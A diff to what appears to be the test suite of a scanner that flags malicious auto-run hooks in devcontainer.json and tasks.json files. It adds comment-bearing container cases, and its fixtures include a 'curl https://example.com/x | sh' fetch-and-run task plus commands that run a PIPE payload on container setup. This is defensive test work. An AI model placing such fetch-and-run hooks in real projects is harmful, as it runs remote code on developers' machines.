@@ -176,6 +176,18 @@ CASES = {
         Verdict.MALICIOUS,
         cut_is_clean=True,
     ),
+    "container_with_comments": Case(
+        lambda: b'{ // c\n "image": "x", // d\n "initializeCommand": ' + json.dumps(PIPE).encode() + b", # e\n}",
+        "devcontainer.json",
+        Verdict.MALICIOUS,
+        cut_is_clean=True,
+    ),
+    "benign_container_with_comments": Case(
+        lambda: b'{ // c\n "image": "https://x", // d\n "postCreateCommand": "pip install -e .", /* e */ }',
+        "devcontainer.json",
+        Verdict.CLEAN,
+        cut_is_clean=True,
+    ),
     "task_on_opening_fetches": document(tasks("curl https://example.com/x | sh"), "tasks.json", Verdict.REVIEW),
     "container_on_host": document({"image": "x", "initializeCommand": PIPE}, "devcontainer.json", Verdict.MALICIOUS),
     "container": document({"image": "x", "postCreateCommand": ["sh", "-c", PIPE]}, "devcontainer.json", Verdict.REVIEW),
